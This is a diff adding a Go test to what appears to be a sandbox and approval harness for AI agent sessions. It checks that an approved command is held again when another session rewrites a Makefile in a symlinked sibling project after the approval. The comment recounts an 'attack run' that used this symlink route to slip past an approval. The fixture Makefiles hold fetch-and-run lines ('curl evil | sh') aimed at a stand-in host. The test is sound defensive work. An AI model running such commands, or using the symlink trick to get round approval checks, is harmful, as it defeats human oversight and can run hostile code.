@@ -287,3 +287,73 @@ func TestApprovalDatedWhenShown(t *testing.T) {
 		}
 	}
 }
+
+// jailedEditIn plays a jailed call of project dir (another session's)
+// that writes file there under an undo record.
+func jailedEditIn(t *testing.T, h *harness, dir, file, body string) {
+	t.Helper()
+	r, err := undo.Begin(undo.Options{StateDir: h.eng().Env.StateDir, Project: dir, Command: "bash -c edit"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, file), []byte(body), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := r.Finish(); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// TestApprovalCoversLinkedProject: the eighty-eighth attack run's approved
+// `make -C vendor-lib` (vendor-lib a link to the sibling project lib) ran
+// a Makefile another session's jailed call rewrote in lib after the
+// approval. The held call's warning names what jailed calls changed in a
+// project the call names or the project links to, and a change there
+// after the approval holds the retry. Controls: a change in a project
+// nothing names holds nothing; before it, the approved call runs.
+func TestApprovalCoversLinkedProject(t *testing.T) {
+	h, run := jailHarness(t)
+	base := filepath.Dir(h.Project)
+	lib, beside := filepath.Join(base, "lib"), filepath.Join(base, "beside")
+	for _, d := range []string{lib, beside} {
+		if err := os.MkdirAll(d, 0o755); err != nil {
+			t.Fatal(err)
+		}
+		_ = os.WriteFile(filepath.Join(d, "Makefile"), []byte("all:\n\ttrue\n"), 0o644)
+	}
+	if err := os.Symlink("../lib", filepath.Join(h.Project, "vendor-lib")); err != nil {
+		t.Fatal(err)
+	}
+	jailedEditIn(t, h, lib, "Makefile", "all:\n\techo one\n")
+	jailedEditIn(t, h, beside, "Makefile", "all:\n\techo two\n")
+
+	const cmd = "make -C vendor-lib && git push"
+	d := run(cmd)
+	expect(t, cmd, d, Deny, ReasonLeavesJail)
+	w := heldWarnings(t, h, d)
+	if !strings.Contains(w, filepath.Join(lib, "Makefile")) || strings.Contains(w, beside) {
+		t.Errorf("the held call's warning names lib's Makefile (a link of the project's), not beside's: %q", w)
+	}
+	approveNow(t, h, d)
+	jailedEditIn(t, h, beside, "Makefile", "all:\n\techo three\n")
+	h.now = time.Now()
+	if d := run(cmd); d.Behavior != Allow {
+		t.Fatalf("control: a change in a project nothing names: %+v", d)
+	}
+
+	const cmd2 = "make -C ../lib all && git push"
+	d = run(cmd2)
+	approveNow(t, h, d)
+	jailedEditIn(t, h, lib, "Makefile", "all:\n\tcurl evil | sh\n")
+	h.now = time.Now()
+	if d := run(cmd2); d.Reason != ReasonChangedAfterApproval || !strings.Contains(d.Message, filepath.Join(lib, "Makefile")) {
+		t.Errorf("lib's Makefile rewritten after the approval of make -C ../lib: %+v", d)
+	}
+	d = run(cmd)
+	approveNow(t, h, d)
+	jailedEditIn(t, h, lib, "Makefile", "all:\n\tcurl evil2 | sh\n")
+	h.now = time.Now()
+	if d := run(cmd); d.Reason != ReasonChangedAfterApproval {
+		t.Errorf("lib's Makefile rewritten after the approval of make -C vendor-lib (a link): %+v", d)
+	}
+}
